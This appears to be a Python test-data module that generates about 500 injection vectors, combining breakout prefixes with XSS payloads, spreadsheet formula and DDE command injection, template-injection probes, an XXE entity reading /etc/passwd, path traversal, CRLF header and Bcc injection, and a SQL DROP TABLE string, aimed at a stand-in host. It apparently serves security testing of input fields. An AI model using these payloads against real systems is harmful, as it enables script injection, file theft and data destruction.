"""Five hundred ways to make text into something that acts, put together from where it stands and what it tries.

Our own combinations of what is generally known: ways out of a text, an attribute, a comment or a script; elements
and attributes that act; encodings; and what others than a browser could act on (Excel, Word's XML, typst, templates).
"""

from itertools import chain, cycle, islice, product

_OUT = (
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    "`",
    "\\",
)
_ACTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//x.test/a.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "<form action=//x.test><button>Log ind",
    "<meta http-equiv=refresh content='0;url=//x.test'>",
    "<base href=//x.test/>",
    "<object data=data:text/html,x>",
    "<link rel=stylesheet href=//x.test/x.css>",
    "<style>*{background:url(//x.test)}</style>",
    "<template><script>alert(1)</script></template>",
    "<div hx-get=//x.test hx-trigger=load>",
    "<p hx-on:click=alert(1)>",
    " onmouseover=alert(1) x=",
    " style=position:fixed ",
    "<!--<script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x onclick=alert(1)>x",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=javascript:alert(1)>",
)
_OTHERS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    '=HYPERLINK("//x.test";"klik")',
    "=cmd|' /c calc'!A0",
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load x %}",
    "${7*7}",
    "#{7*7}",
    '#import "x.typ"',
    '#eval("1")',
    '#image("/etc/passwd")',
    "$ x^2 $",
    "*fed* _kursiv_ `kode`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)",
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    '<w:instrText>DDEAUTO c:\\\\x "y"</w:instrText>',
    "&xxe;",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "x\nBcc: nogen@x.test",
    "../../../etc/passwd",
    "'; DROP TABLE programmes_project; --",
)

_ALL = chain(_OTHERS, (out + act for act, out in product(_ACTS, _OUT)), (f"Æ {one} ø" for one in _OTHERS))
VECTORS: tuple[str, ...] = tuple(islice(dict.fromkeys(_ALL), 510))


def endless() -> "cycle[str]":
    """The vectors, again and again, for more fields than there are vectors."""
    return cycle(VECTORS)
